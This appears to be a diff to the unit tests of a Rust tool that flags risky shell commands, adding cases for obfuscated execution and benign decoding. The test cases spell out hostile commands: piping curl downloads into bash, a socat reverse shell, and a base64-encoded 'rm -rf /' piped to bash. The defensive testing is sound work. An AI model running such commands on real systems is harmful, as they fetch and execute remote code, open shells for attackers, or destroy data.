@@ -592,6 +592,9 @@ mod tests {
             ("curl x |& /bin/bash", "risky_command.download_pipe_shell"),
             ("eval \"$(curl -s http://x)\"", "risky_command.download_pipe_shell"),
             ("socat TCP:h:80 EXEC:sh", "risky_command.reverse_shell"),
+            ("echo cm0gLXJmIC8= | base64 -d | bash", "risky_command.obfuscated_exec"),
+            ("xxd -r -p payload.hex | sh -s", "risky_command.obfuscated_exec"),
+            ("gunzip -c x.gz | sudo bash", "risky_command.obfuscated_exec"),
         ];
         for (c, id) in cases {
             assert!(cmd(c).contains(&id.to_string()), "{c}: {:?}", cmd(c));
@@ -610,6 +613,9 @@ mod tests {
             "echo history",
             "grep -r sudoku .",
             "curl -o file.tgz https://x",
+            "base64 -d in.b64 > out.bin",
+            "zcat logs.gz | grep err",
+            "base64 -d p | python3 parse.py",
         ] {
             assert!(cmd(c).is_empty(), "{c}: {:?}", cmd(c));
         }
